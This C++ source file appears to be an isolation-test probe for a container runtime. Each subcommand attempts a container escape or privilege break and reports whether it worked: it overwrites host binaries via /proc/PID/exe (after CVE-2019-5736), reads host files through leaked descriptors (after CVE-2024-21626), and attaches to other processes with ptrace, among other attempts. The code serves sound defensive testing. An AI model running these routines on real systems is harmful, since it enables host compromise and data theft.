// SPDX-License-Identifier: Apache-2.0
// What an attacker runs in a container, or as a user of the host. Each prints in a word or two what
// became of it:
//   intruder overwrite STOP         writes into each program of the host that it finds in /proc,
//                                   until the file STOP exists
//   intruder read FILE              reads FILE of the host by any descriptor that it inherited
//   intruder swap SECONDS A B       exchanges two paths, again and again
//   intruder hold FILE LEASE         holds a lease (read, write) on a file until it is killed
//   intruder trace SECONDS NAME     gets at the memory of any process NAME
//   intruder hide GO COMMAND...     hides CAP_NET_ADMIN in a thread, and uses it once the file GO
//                                   exists
//   intruder ping ADDRESS           asks by ICMP, without a capability
//   intruder udp ADDRESS PORT       asks by UDP, also by broadcast; by IPv6 through eth0
//   intruder serve PORT             is a service of the host that answers by UDP
//   intruder open DEVICE MAJOR MINOR  makes a device node and opens it
//   intruder crowd N                 is N tasks until it is killed
//   intruder wait SECONDS           does nothing
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <net/if.h>
#include <netinet/ip_icmp.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <functional>
#include <map>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

namespace {

using std::chrono::steady_clock;

int say(const char* words) {
  std::puts(words);
  (void)std::fflush(stdout);
  return 0;
}

int fail(const char* what) {
  std::printf("%s: %s\n", what, errno == EPERM ? "not permitted" : std::strerror(errno));
  return 2;
}

std::string link_of(const std::string& path) {
  char text[4096];
  const ssize_t size = readlink(path.c_str(), text, sizeof text);
  return {text, static_cast<size_t>(size < 0 ? 0 : size)};
}

std::string text_of(const std::string& path) {
  char text[4096];
  const int fd = open(path.c_str(), O_RDONLY);
  const ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof text);
  if (fd >= 0) (void)close(fd);
  return {text, static_cast<size_t>(size < 0 ? 0 : size)};
}

// Calls ACT for the numbers that are names in DIRECTORY.
void for_each_number(const char* directory, const std::function<void(int)>& act) {
  DIR* const list = opendir(directory);
  if (list == nullptr) return;
  while (const dirent* const entry = readdir(list)) {
    const int number = std::atoi(entry->d_name);
    const bool is_own = std::string_view(directory).ends_with("/fd") && number == dirfd(list);
    if ((number > 0 || std::strcmp(entry->d_name, "0") == 0) && !is_own) act(number);
  }
  (void)closedir(list);
}

// Acts again and again until it returns true, or for SECONDS.
bool try_for(const char* seconds, const std::function<bool()>& act) {
  const auto end =
      steady_clock::now() + std::chrono::milliseconds(static_cast<long>(std::atof(seconds) * 1000));
  while (steady_clock::now() < end) {
    if (act()) return true;
  }
  return false;
}

// As CVE-2019-5736: a program that enters the container shows its file in /proc/PID/exe. Nobody
// may write into the file of a running program, so the file is kept open until the program ends.
int overwrite(const char* stop) {
  std::map<ino_t, int> kept;
  bool done = false;
  for (bool is_last = false; !done && !is_last;) {
    is_last = access(stop, F_OK) == 0;
    for_each_number("/proc", [&](int pid) {
      const std::string exe = "/proc/" + std::to_string(pid) + "/exe";
      const int fd = open(exe.c_str(), O_RDONLY | O_CLOEXEC);
      if (fd < 0) return;
      // By the descriptor: the process may have ended meanwhile.
      const std::string path = link_of("/proc/self/fd/" + std::to_string(fd));
      struct stat found {};
      struct stat ours {};
      const bool is_ours = stat(path.c_str(), &ours) == 0;
      const bool is_new =
          !is_ours && fstat(fd, &found) == 0 && kept.emplace(found.st_ino, fd).second;
      if (is_new) std::fprintf(stderr, "found %s\n", path.c_str());
      if (!is_new) (void)close(fd);
    });
    for (const auto& [inode, fd] : kept) {
      const std::string again = "/proc/self/fd/" + std::to_string(fd);
      const int writable = open(again.c_str(), O_WRONLY | O_CLOEXEC);
      done = done || (writable >= 0 && write(writable, "overwritten", 11) == 11);
      if (writable >= 0) (void)close(writable);
    }
  }
  return say(done ? "overwritten" : "intact");
}

// As CVE-2024-21626: a descriptor of the host's that is still open in the container, or the working
// directory.
int read_by_descriptor(const char* file) {
  const std::string path = std::string("./") + file;
  std::vector<int> directories{AT_FDCWD};
  for_each_number("/proc/self/fd", [&](int fd) { directories.push_back(fd); });
  for (const int directory : directories) {
    std::string up;
    for (int i = 0; i < 16; ++i, up += "../") {
      if (openat(directory, (up + path).c_str(), O_RDONLY | O_CLOEXEC) >= 0) {
        return say("reads the host");
      }
    }
  }
  return say("stays inside");
}

int swap(const char* seconds, const char* a, const char* b) {
  (void)try_for(seconds, [&] {
    (void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
    return false;
  });
  return say("swapped");
}

int hold(const char* file, std::string_view lease) {
  const int fd = open(file, O_RDONLY);
  if (fd < 0) return fail(file);
  (void)std::signal(SIGIO, SIG_IGN);
  if (fcntl(fd, F_SETLEASE, lease == "read" ? F_RDLCK : F_WRLCK) != 0) return fail("lease");
  say("held");
  for (;;) (void)pause();
}

int trace(const char* seconds, const std::string& name) {
  int seen = 0;
  const bool done = try_for(seconds, [&] {
    bool in = false;
    for_each_number("/proc", [&](int pid) {
      const std::string process = "/proc/" + std::to_string(pid);
      if (in || text_of(process + "/comm") != name.substr(0, 15) + "\n") return;
      ++seen;
      in = ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0 ||
           open((process + "/mem").c_str(), O_RDONLY) >= 0;
    });
    return in;
  });
  std::fprintf(stderr, "saw it %d times\n", seen);
  return say(done ? "read" : seen > 0 ? "kept out" : "never saw it");
}

// Only this thread loses the capability, and what would give it back.
void lose_net_admin() {
  (void)prctl(PR_CAPBSET_DROP, CAP_NET_ADMIN, 0, 0, 0);
  __user_cap_header_struct header{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct data[2]{};
  if (syscall(SYS_capget, &header, data) != 0) return;
  for (__u32* const set : {&data[0].effective, &data[0].permitted, &data[0].inheritable}) {
    *set &= ~(1U << CAP_NET_ADMIN);
  }
  (void)syscall(SYS_capset, &header, data);
  (void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
}

int hide(const char* go, char** command) {
  std::thread([=] {
    while (access(go, F_OK) != 0) (void)usleep(10'000);
    (void)execv(command[0], command);  // with the capabilities of this thread
    std::exit(fail(command[0]));
  }).detach();
  lose_net_admin();
  say("hidden");
  for (;;) (void)pause();
}

// Sends, and waits for an answer.
template <typename Address>
int ask(int fd, const void* question, size_t size, const Address& to) {
  const timeval limit{3, 0};  // an answer to an anycast address comes up to 0.8 s later
  (void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
  const auto* const address = reinterpret_cast<const sockaddr*>(&to);
  if (sendto(fd, question, size, 0, address, sizeof to) < 0) {
    // By the filter, or by a prohibit route.
    return say(errno == EPERM || errno == EACCES ? "not permitted" : "silent");
  }
  char reply[64];
  return say(recv(fd, reply, sizeof reply, 0) > 0 ? "answered" : "silent");
}

int ping(const char* text) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  if (inet_pton(AF_INET, text, &to.sin_addr) != 1) return 2;
  const int fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
  if (fd < 0) return fail("socket");
  if (setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "roce0", 5) != 0) return fail("roce0");
  icmphdr request{};
  request.type = ICMP_ECHO;
  return ask(fd, &request, sizeof request, to);
}

int udp_by_ipv6(const in6_addr& address, const char* port) {
  sockaddr_in6 to{};
  to.sin6_family = AF_INET6;
  to.sin6_addr = address;
  to.sin6_port = htons(static_cast<uint16_t>(std::atoi(port)));
  to.sin6_scope_id = if_nametoindex("eth0");
  const int fd = socket(AF_INET6, SOCK_DGRAM, 0);
  return fd < 0 ? fail("udp") : ask(fd, "?", 1, to);
}

int udp(const char* text, const char* port) {
  in6_addr ipv6{};
  if (inet_pton(AF_INET6, text, &ipv6) == 1) return udp_by_ipv6(ipv6, port);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(std::atoi(port)));
  if (inet_pton(AF_INET, text, &to.sin_addr) != 1) return 2;
  const int fd = socket(AF_INET, SOCK_DGRAM, 0);
  const int on = 1;
  if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof on) != 0) return fail("udp");
  return ask(fd, "?", 1, to);
}

template <typename Address>
int serve_at(Address from) {
  auto* const address = reinterpret_cast<sockaddr*>(&from);
  const int fd = socket(address->sa_family, SOCK_DGRAM, 0);
  const int on = 1;
  // Otherwise the address is taken for IPv4, too.
  if (address->sa_family == AF_INET6) (void)setsockopt(fd, SOL_IPV6, IPV6_V6ONLY, &on, sizeof on);
  if (fd < 0 || bind(fd, address, sizeof from) != 0) return fail("serve");
  for (;;) {
    char question[64];
    socklen_t size = sizeof from;
    if (recvfrom(fd, question, sizeof question, 0, address, &size) <= 0) continue;
    (void)sendto(fd, "the host", 8, 0, address, size);
  }
}

int serve(const char* port) {
  sockaddr_in6 ipv6{};
  ipv6.sin6_family = AF_INET6;
  ipv6.sin6_port = htons(static_cast<uint16_t>(std::atoi(port)));
  std::thread([=] { (void)serve_at(ipv6); }).detach();
  sockaddr_in ipv4{};
  ipv4.sin_family = AF_INET;
  ipv4.sin_port = ipv6.sin6_port;
  return serve_at(ipv4);
}

// No driver is behind the device of a test: that the kernel says so means that it is permitted.
int open_device(const char* path, const char* major, const char* minor) {
  const dev_t number =
      makedev(static_cast<unsigned>(std::atoi(major)), static_cast<unsigned>(std::atoi(minor)));
  (void)unlink(path);
  if (mknod(path, S_IFCHR | 0666, number) != 0) return fail("mknod");
  if (open(path, O_RDWR) >= 0 || errno == ENXIO) return say("opened");
  return say("not permitted");
}

int crowd(const char* tasks) {
  std::vector<std::thread> threads;
  for (int i = 1; i < std::atoi(tasks); ++i) threads.emplace_back([] { (void)pause(); });
  (void)say("crowded");
  return pause();
}

}  // namespace

int main(int argc, char** argv) {
  const std::string_view what = argc > 1 ? argv[1] : "";
  if (what == "overwrite" && argc == 3) return overwrite(argv[2]);
  if (what == "read" && argc == 3) return read_by_descriptor(argv[2]);
  if (what == "swap" && argc == 5) return swap(argv[2], argv[3], argv[4]);
  if (what == "hold" && argc == 4) return hold(argv[2], argv[3]);
  if (what == "trace" && argc == 4) return trace(argv[2], argv[3]);
  if (what == "hide" && argc >= 4) return hide(argv[2], argv + 3);
  if (what == "ping" && argc == 3) return ping(argv[2]);
  if (what == "udp" && argc == 4) return udp(argv[2], argv[3]);
  if (what == "serve" && argc == 3) return serve(argv[2]);
  if (what == "open" && argc == 5) return open_device(argv[2], argv[3], argv[4]);
  if (what == "crowd" && argc == 3) return crowd(argv[2]);
  if (what == "wait" && argc == 3)
    return try_for(argv[2],
                   [] {
                     (void)usleep(1000);
                     return false;
                   })
               ? 1
               : 0;
  return 2;
}
